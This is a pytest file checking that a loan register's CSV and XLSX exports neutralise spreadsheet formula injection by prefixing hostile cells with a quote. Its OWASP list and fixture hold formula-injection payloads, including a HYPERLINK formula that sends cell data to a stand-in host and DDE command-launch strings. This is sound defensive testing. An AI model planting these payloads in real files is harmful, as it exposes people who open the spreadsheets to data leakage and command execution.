"""Every register export is safe to open (CWE-1236, docs/requirements.md §5): a text cell that a spreadsheet
would run as a formula gets a leading `'`, in CSV of both dialects (through COPY and through the Python writer)
and in XLSX; numbers stay numbers and E.164 phone numbers stay dialable."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from common.models import ExportLog
from loanregister.exports import DIALECTS, export_start
from loanregister.models import RegisterEvent
from loanregister.register import register_events, register_filterset

from . import register_support as make

WIDE = {"date_from": "2000-01-01", "date_to": "2099-12-31"}
OWASP = [
    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.fixture
def hostile_book():
    for index, name in enumerate(OWASP):
        make.loan(
            f"H-{index}",
            maturity_date=datetime.date(2030, 1, 1 + index),
            borrower=make.borrower(name, phone="+4512345678", address="=cmd|' /C calc'!A0", email="@evil"),
        )
    RegisterEvent.objects.filter(loan_number="H-0").update(outstanding_balance=Decimal("-10.50"))


def _export(*, fmt: str, dialect: str = "plain", use_copy: bool = True) -> bytes:
    export = export_start(
        events=register_events(filterset=register_filterset(data=WIDE)),
        user=None,
        fmt=fmt,
        dialect=dialect,
        contact_details=True,
        use_copy=use_copy,
    )
    payload = b"".join(export.chunks)
    assert ExportLog.objects.get(pk=export.log.pk).row_count == len(OWASP)
    return payload


@pytest.mark.django_db
@pytest.mark.parametrize("dialect", sorted(DIALECTS))
@pytest.mark.parametrize("use_copy", [True, False], ids=["copy", "python"])
def test_owasp_payloads_leave_every_csv_neutralized(hostile_book, dialect, use_copy):
    # when the register is exported as CSV
    spec = DIALECTS[dialect]
    text = _export(fmt="csv", dialect=dialect, use_copy=use_copy).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=spec.delimiter))
    # then each payload is text with a leading quote, never a formula
    assert [row["borrower_name"] for row in rows] == ["'" + name for name in OWASP]
    assert {row["borrower_address"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert {row["email"] for row in rows} == {"'@evil"}
    # and the dialler's phone numbers and the numbers stay as they are
    assert {row["phone"] for row in rows} == {"+4512345678"}
    assert rows[0]["outstanding_balance"] == "-10.50".replace(".", spec.decimal)


@pytest.mark.django_db
def test_owasp_payloads_leave_the_xlsx_as_text_cells(hostile_book):
    # when the register is exported as XLSX
    sheet = load_workbook(io.BytesIO(_export(fmt="xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    rows = list(sheet.iter_rows(min_row=2))
    name = header.index("borrower_name")
    # then no cell is a formula, and each payload reads back with its leading quote
    assert all(cell.data_type != "f" for row in rows for cell in row)
    assert [row[name].value for row in rows] == ["'" + payload for payload in OWASP]
    assert rows[0][header.index("phone")].value == "+4512345678"
    balance = rows[0][header.index("outstanding_balance")]
    assert balance.data_type == "n" and balance.value == Decimal("-10.50")
